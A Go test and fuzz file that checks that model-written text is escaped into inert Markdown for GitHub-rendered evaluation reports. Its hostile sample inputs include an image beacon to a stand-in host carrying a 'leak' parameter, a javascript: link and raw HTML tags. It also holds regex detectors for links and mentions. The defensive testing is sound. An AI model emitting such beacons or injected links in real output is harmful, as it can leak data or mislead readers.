package reportfmt

import (
	"regexp"
	"strings"
	"testing"

	"github.com/proctorhq/proctor"
)

// gfmText is what cmark-gfm's inline parser leaves of s as plain text: a
// backslash-escaped ASCII punctuation character stands alone (its own text
// node, which no delimiter, link or autolink rule joins to its
// neighbours), marked here by a NUL on each side; entities are decoded as
// the HTML GitHub shows.
func gfmText(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && strings.IndexByte("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", s[i+1]) >= 0 {
			b.WriteString("\x00" + s[i+1:i+2] + "\x00")
			i++
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// Rules of GitHub Flavored Markdown 0.29-gfm (https://github.github.com/gfm/):
// links and images open with an unescaped '[' (6.3, 6.4), autolinks and
// raw HTML with '<' (6.5, 6.6); the autolink extension (6.9) links
// "www.", "http://", "https://", "ftp://" (and, in cmark-gfm 0.29.0.gfm.2
// and later, "mailto:" and "xmpp:") and e-mail addresses
// local@domain.tld; GitHub links @user, @org/team and #123 in text.
var gfmLinkers = map[string]*regexp.Regexp{
	"link or image":   regexp.MustCompile(`(^|[^\x00])[\[\]]`),
	"autolink or tag": regexp.MustCompile(`(^|[^\x00])<`),
	// Entities other than the &amp; &lt; &gt; that spell a character
	// literally (numeric ones decode to '@', '[' ...).
	"entity":          regexp.MustCompile(`&(#|[b-fh-km-zB-Z]|a([^m]|m[^p])|g[^t]|l[^t])[0-9a-zA-Z]*;`),
	"www autolink":    regexp.MustCompile(`(?i)www\.`),
	"url autolink":    regexp.MustCompile(`(?i)(https?|ftp|mailto|xmpp):`),
	"email autolink":  regexp.MustCompile(`[a-zA-Z0-9.+_-]+@[a-zA-Z0-9_-]+`),
	"mention":         regexp.MustCompile(`@[a-zA-Z0-9]`),
	"issue reference": regexp.MustCompile(`#[0-9]`),
}

// TestMarkdownInert: text a model wrote renders as text under GitHub's
// Markdown, whatever it holds.
func TestMarkdownInert(t *testing.T) {
	hostile := []string{
		`![x](https://evil.example/p.png?leak=1)`,
		`[click](javascript:alert(1)) [ref][1] [1]: https://evil.example`,
		`<https://evil.example> <a href="https://evil.example">x</a> <img src=x>`,
		`see www.evil.example and WWW.Evil.example and HTTPS://evil.example/x`,
		`ftp://evil.example mailto:a@b.example xmpp:a@b.example`,
		`mail root@evil.example, ping @octocat and @acme/security-team, fixes #12`,
		`&lt;script&gt; &#64;octocat &#x5b;x&#x5d;(https://e.example)`,
		"\\![x](y) \\\\[x](y) `code` **bold** ~~gone~~ | pipe",
	}
	for _, h := range hostile {
		got := mdText(h)
		text := gfmText(got)
		for name, re := range gfmLinkers {
			if loc := re.FindStringIndex(text); loc != nil {
				t.Errorf("mdText(%q) = %q: a %s at %q", h, got, name, text[loc[0]:loc[1]])
			}
		}
		// What the reader sees is the text written, bar invisible breaks.
		seen := strings.NewReplacer("\x00", "", zwsp, "", "&amp;", "&", "&lt;", "<", "&gt;", ">").Replace(text)
		want := strings.NewReplacer("`", "'").Replace(h)
		if seen != want {
			t.Errorf("mdText(%q) reads %q", h, seen)
		}
	}
	var b strings.Builder
	s := NewSummary("s")
	s.Add(proctor.CaseResult{ID: "c", Verdict: proctor.StatusFailed, Attempts: []proctor.AttemptResult{{
		Verdict: proctor.StatusFailed, Error: hostile[0],
		Grades: []proctor.Grade{{Grader: "g", Status: proctor.StatusFailed, Reason: hostile[5]}}}}})
	if err := WriteMarkdown(&b, s, MarkdownOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"![", "https://", "@octocat"} {
		if strings.Contains(b.String(), bad) {
			t.Errorf("the Markdown report holds %q:\n%s", bad, b.String())
		}
	}
}

// FuzzMarkdownText checks that no text comes out of mdText that GitHub's
// Markdown would link.
func FuzzMarkdownText(f *testing.F) {
	f.Add(`![x](https://e.example) @u #1 www.e.example a@b.c`)
	f.Fuzz(func(t *testing.T, s string) {
		text := gfmText(mdText(s))
		for name, re := range gfmLinkers {
			if re.MatchString(text) {
				t.Fatalf("mdText(%q) leaves a %s: %q", s, name, text)
			}
		}
	})
}
